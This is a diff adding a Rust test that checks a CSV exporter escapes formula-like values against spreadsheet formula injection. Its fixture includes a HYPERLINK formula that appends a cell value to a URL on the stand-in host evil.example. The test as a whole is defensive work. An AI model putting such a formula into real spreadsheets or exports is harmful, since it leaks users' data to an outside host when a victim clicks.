@@ -408,3 +408,34 @@ fn records_of(path: &std::path::Path) -> Vec<Vec<String>> {
         .map(|r| r.expect("row").iter().map(str::to_owned).collect())
         .collect()
 }
+
+#[test]
+fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_csv() {
+    // Partner names that are formulas, and a finding message that starts with one.
+    let (_dir, out) = build(&fixture("formula-names"));
+    let partners = read(&out, "data/partners.csv");
+    assert!(
+        partners.contains(r#","'=HYPERLINK(""https://evil.example/?x=""&A3,""Click"")","#),
+        "{partners}"
+    );
+    assert!(partners.contains(",'@SUM(1+1),"), "{partners}");
+    // No cell of any CSV starts with a character that makes a formula; counts stay numbers.
+    for file in crate::support::files(&out.join("data")) {
+        if !file.ends_with(".csv") {
+            continue;
+        }
+        let text = read(&out, &format!("data/{file}"));
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("record").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{file}: {cell:?}"
+                );
+            }
+        }
+    }
+    // JSON keeps the text as it is.
+    let json = read(&out, "data/partners.json");
+    assert!(json.contains(r#""name": "=HYPERLINK("#), "{json}");
+}
